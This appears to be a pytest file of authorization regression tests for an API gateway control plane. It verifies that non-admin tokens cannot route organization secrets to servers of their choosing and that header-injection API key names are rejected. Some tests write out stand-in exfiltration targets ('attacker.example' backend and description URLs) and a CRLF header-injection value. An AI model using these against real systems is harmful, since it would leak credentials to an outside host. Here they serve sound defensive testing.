"""Who decides where secrets go: only admins attach them to plans, move such plans, or read a URL with one.

A user token could otherwise send an organization's secrets to a server it chooses (a plan's backend, a
description's URL, a description's servers) and read them there, which is the "any token reads every
secret" finding by another road. Both databases.
"""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import httpx2
import pytest

from apimcp.control.domain import services
from tests.control.api_harness import ECHO_API, Api, Org, created, import_echo, ok, problem
from tests.control.factories import prompts

ECHO_BACKEND = "http://127.0.0.1:9/v1"


def _secret(org: Org, name: str = "key") -> str:
    body = {"name": name, "kind": "api_key", "fields": {"name": "X-Key"}, "values": {"value": "s3cret-value"}}
    return str(created(org.user.post("/secrets", json=body))["id"])


def _plan(client: httpx2.Client, service_id: str, **values: Any) -> httpx2.Response:
    return client.post("/plans", json={"service_id": service_id, "name": "p", **values})


def test_a_user_token_could_send_an_organization_s_secrets_to_its_own_backend(api: Api) -> None:
    acme = api.org("acme")
    member = api.member(acme)
    service = import_echo(acme.user)["id"]
    secret = _secret(acme)
    body = problem(_plan(member, service, backend_endpoint=ECHO_BACKEND, secret_ids=[secret]), 403)
    assert body["detail"] == (
        "attaching secrets to a plan needs the admin role in organization acme; "
        "this is a user token, with the editor role"
    )
    plan = created(_plan(acme.user, service, backend_endpoint=ECHO_BACKEND, secret_ids=[secret]))["id"]
    moved = problem(member.patch(f"/plans/{plan}", json={"backend_endpoint": "http://attacker.example/v1"}), 403)
    assert "changing the backend of a plan that carries secrets needs the admin role" in moved["detail"]
    assert problem(member.patch(f"/plans/{plan}", json={"tls_secret_id": secret}), 403)["status"] == 403
    assert problem(member.patch(f"/plans/{plan}", json={"introspection_secret_id": secret}), 403)["status"] == 403
    assert problem(_plan(member, service, name="q", secret_id=secret), 403)["status"] == 403
    # everything else stays the user's, removing the secrets included; then the backend is free to move
    assert ok(member.patch(f"/plans/{plan}", json={"include": ["GET *"]}))["include"] == ["GET *"]
    assert ok(member.patch(f"/plans/{plan}", json={"secret_ids": []}))["secret_ids"] == []
    assert ok(member.patch(f"/plans/{plan}", json={"backend_endpoint": "http://127.0.0.2:9/v1"}))["secret_ids"] == []
    own = created(_plan(member, service, name="mine", backend_endpoint=ECHO_BACKEND))
    assert own["secret_ids"] == []


def test_a_user_token_could_open_an_admin_s_plan_with_secrets_to_anyone_or_take_a_key_to_it(api: Api) -> None:
    """Found writing docs/security.md's roles (issue 21): a member set an admin's plan that carries secrets to
    inbound none (anonymous clients then called its backend with the admin's credentials), renewed its API key, or
    duplicated it (the duplicate keeps the secrets and hands the member a key of its own)."""
    acme = api.org("acme")
    member = api.member(acme)
    service = import_echo(acme.user)["id"]
    secret = _secret(acme)
    plan = created(_plan(acme.user, service, backend_endpoint=ECHO_BACKEND, secret_ids=[secret],
                         inbound_mode="api_key"))["id"]  # fmt: skip
    for change in ({"inbound_mode": "none"}, {"inbound_mode": "oauth", "oauth": {"issuers": ["https://i.test"]}}):
        refused = problem(member.patch(f"/plans/{plan}", json=change), 403)
        assert "changing who may call a plan that carries secrets needs the admin role" in refused["detail"]
    renewed = problem(member.post(f"/plans/{plan}/api-key"), 403)
    assert "changing who may call a plan that carries secrets" in renewed["detail"]
    copied = problem(member.post(f"/plans/{plan}/duplicate", json={"name": "copy"}), 403)
    assert "duplicating a plan that carries secrets needs the admin role" in copied["detail"]
    assert ok(acme.user.get(f"/plans/{plan}"))["inbound_mode"] == "api_key"
    # an admin may; a member may for a plan without secrets
    assert ok(acme.user.patch(f"/plans/{plan}", json={"inbound_mode": "none"}))["inbound_mode"] == "none"
    assert created(acme.user.post(f"/plans/{plan}/duplicate", json={"name": "copy"}))["secret_ids"] == [secret]
    own = created(_plan(member, service, name="mine", backend_endpoint=ECHO_BACKEND))["id"]
    assert ok(member.patch(f"/plans/{own}", json={"inbound_mode": "none"}))["inbound_mode"] == "none"
    assert created(member.post(f"/plans/{own}/duplicate", json={"name": "mine-too"}))["secret_ids"] == []


def test_a_user_token_could_copy_an_introspection_secret_into_a_plan_of_its_own(api: Api) -> None:
    """The finding: only an admin puts an introspection secret in a plan, yet a member duplicated an admin's plan
    holding one (the copy kept it) and then pointed the copy's OAuth settings at issuers of its choice."""
    acme = api.org("acme")
    member = api.member(acme)
    service = import_echo(acme.user)["id"]
    body = {"name": "idp", "kind": "oauth_introspection", "values": {"client_secret": "intro-s3cret"},
            "fields": {"url": "https://idp.example.com/introspect", "client_id": "gw"}}  # fmt: skip
    secret = created(acme.user.post("/secrets", json=body))["id"]
    oauth = {"issuers": ["https://idp.example.com"]}
    plan = created(_plan(acme.user, service, backend_endpoint=ECHO_BACKEND, inbound_mode="oauth", oauth=oauth,
                         introspection_secret_id=secret))["id"]  # fmt: skip
    copied = problem(member.post(f"/plans/{plan}/duplicate", json={"name": "copy"}), 403)
    assert "duplicating a plan that carries secrets needs the admin role" in copied["detail"]
    moved = problem(member.patch(f"/plans/{plan}", json={"oauth": {"issuers": ["https://other.test"]}}), 403)
    assert "changing who may call a plan that carries secrets" in moved["detail"]
    keyed = created(_plan(acme.user, service, name="keyed", backend_endpoint=ECHO_BACKEND, inbound_mode="api_key"))
    exported = ok(api.member(acme, "reader").get("/export"))  # the finding: an API key's hash was in the export
    (inbound,) = [p["inbound"] for p in exported["plans"] if p["id"] == keyed["id"]]
    assert inbound["mode"] == "api_key" and "key_hash" not in inbound


def test_a_user_token_could_read_a_description_url_of_its_choice_with_a_secret(api: Api) -> None:
    acme = api.org("acme")
    member = api.member(acme)
    secret = _secret(acme, "reader")
    body = {"url": "http://attacker.example/openapi.yaml", "name": "x", "version": "1", "secret_id": secret}
    refused = problem(member.post("/services", json=body), 403)
    assert refused["detail"].startswith("reading a description with a secret needs the admin role")


def test_a_user_token_could_point_a_description_s_servers_elsewhere_under_plans_with_secrets(api: Api) -> None:
    """A plan without a backend calls the servers its description names: a new description moves its secrets."""
    acme = api.org("acme")
    member = api.member(acme)
    service = import_echo(acme.user)["id"]
    import_echo(member)  # no plan carries secrets yet: anyone updates it
    created(_plan(acme.user, service, secret_ids=[_secret(acme)]))
    body = problem(
        member.post(
            "/services",
            files={"file": ("echo.yaml", ECHO_API.read_bytes(), "application/yaml")},
            data={"name": "echo", "version": "1"},
        ),
        403,
    )
    assert "has plans that send secrets to the servers its description names" in body["detail"]
    assert import_echo(acme.user)["id"] == service  # an admin may


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"name": "X-Key\r\nEvil: 1"}, "cannot be a header name"),
        ({"name": "X Key"}, "cannot be a header name"),
        ({"name": "session id", "location": "cookie"}, "cannot be a cookie name"),
        ({"name": 5}, "an API key's name is a string"),
        ({"name": "key\x00", "location": "query"}, "control character"),
    ],
)
def test_an_api_key_name_no_header_can_carry_was_stored_and_failed_every_call(
    api: Api, fields: dict[str, Any], message: str
) -> None:
    acme = api.org("acme")
    body = {"name": "bad", "kind": "api_key", "fields": fields, "values": {"value": "v4lue-of-the-key"}}
    refused = problem(acme.user.post("/secrets", json=body), 422, field="fields.name")
    assert message in refused["detail"]
    fine = {"name": "fine", "kind": "api_key", "fields": {"name": "api key", "location": "query"},
            "values": {"value": "v4lue-of-the-key"}}  # fmt: skip
    assert created(acme.user.post("/secrets", json=fine))["fields"]["name"] == "api key"


def test_an_artifact_upload_was_parsed_before_the_token_was_checked(api: Api) -> None:
    """A form field parameter made FastAPI read and spool the upload before any dependency ran."""
    acme = api.org("acme")
    service = import_echo(acme.user)["id"]
    broken = b"--b\r\nContent-Disposition: form-data; name=file; filename=a.yaml\r\n\r\nnot closed"
    headers = {"Content-Type": "multipart/form-data; boundary=b"}
    anonymous = api.client()
    assert problem(anonymous.post(f"/services/{service}/artifacts", content=broken, headers=headers), 401)
    upload = {"file": ("prompts.yaml", prompts("echo", "1"), "application/yaml")}
    assert created(acme.user.post(f"/services/{service}/artifacts", files=upload))["name"] == "prompts.yaml"
    named = created(acme.user.post(f"/services/{service}/artifacts", files=upload, data={"name": "mine"}))
    assert named["name"] == "mine"
    assert problem(acme.user.post(f"/services/{service}/artifacts", json={}), 422, field="file")


def test_an_uploaded_artifact_was_not_held_to_the_description_size(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    """Found writing docs/security.md's roles (issue 21): APIMCP_FETCH_MAX_BYTES bounded uploaded descriptions and
    fetched artifacts, and an uploaded artifact only by the route's body limit."""
    acme = api.org("acme")
    service = import_echo(acme.user)["id"]
    upload = {"file": ("prompts.yaml", prompts("echo", "1"), "application/yaml")}
    monkeypatch.setattr(api.plane, "fetch_limits", replace(api.plane.fetch_limits, max_bytes=100))
    refused = problem(acme.user.post(f"/services/{service}/artifacts", files=upload), 422, field="file")
    assert "larger than the 100 bytes allowed" in str(refused["detail"])
    monkeypatch.undo()
    assert created(acme.user.post(f"/services/{service}/artifacts", files=upload))["name"] == "prompts.yaml"


def test_attaching_by_url_held_a_database_connection_while_fetching(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    acme = api.org("acme")
    service = import_echo(acme.user)["id"]
    pool = api.plane.store.engine.pool
    held: list[int] = []

    def fetched(url: str, fetcher: object = None) -> tuple[bytes, str]:
        held.append(pool.checkedout())  # type: ignore[attr-defined]
        return prompts("echo", "1"), "prompts.yaml"

    monkeypatch.setattr(services, "read_artifact", fetched)
    attached = created(acme.user.post(f"/services/{service}/artifacts/from-url", json={"url": "http://x.test/p"}))
    assert attached["name"] == "prompts.yaml"
    assert held == [0]


def test_an_introspection_secret_a_plan_or_a_template_names_cannot_be_deleted(api: Api) -> None:
    """The finding: deleting it answered 204; the plan kept a dangling id, its gateways silently stopped checking
    opaque tokens, and every later change of the plan's OAuth settings answered 404."""
    acme = api.org("acme")
    service = import_echo(acme.user)["id"]
    body = {"name": "idp", "kind": "oauth_introspection", "values": {"client_secret": "intro-s3cret"},
            "fields": {"url": "https://idp.example.com/introspect", "client_id": "gw"}}  # fmt: skip
    secret = created(acme.user.post("/secrets", json=body))["id"]
    oauth = {"issuers": ["https://idp.example.com"]}
    settings = {"inbound_mode": "oauth", "oauth": oauth, "introspection_secret_id": secret}
    plan = created(_plan(acme.user, service, backend_endpoint=ECHO_BACKEND, **settings))["id"]
    refused = problem(acme.user.delete(f"/secrets/{secret}"), 409)
    assert refused["detail"] == "secret 'idp' is used by plans p"
    ok(acme.user.patch(f"/plans/{plan}", json={"inbound_mode": "none"}))
    created(acme.user.post("/templates", json={"name": "oauth-preset", "settings": settings}))
    refused = problem(acme.user.delete(f"/secrets/{secret}"), 409)
    assert refused["detail"] == "secret 'idp' is used by plan templates oauth-preset"
